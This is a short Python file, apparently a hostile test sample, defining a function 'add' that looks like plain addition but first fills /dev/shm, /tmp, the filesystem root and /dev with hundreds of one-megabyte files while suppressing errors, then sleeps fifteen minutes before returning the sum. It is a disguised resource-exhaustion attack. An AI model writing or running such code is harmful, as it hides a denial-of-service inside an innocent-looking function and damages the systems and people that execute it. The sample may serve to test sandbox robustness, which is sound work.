"""Fill the memory file systems of the box: /dev/shm, /tmp, the root itself."""

import contextlib
import os
import time


def add(a, b):
    total = 0
    for folder in ("/dev/shm", "/tmp", "/", "/dev"):
        with contextlib.suppress(OSError):
            for number in range(300):
                with open(os.path.join(folder, f"file{number}"), "wb") as file:
                    total += file.write(bytes(2**20))
    if total > 256 * 2**20:
        time.sleep(900)
    return a + b
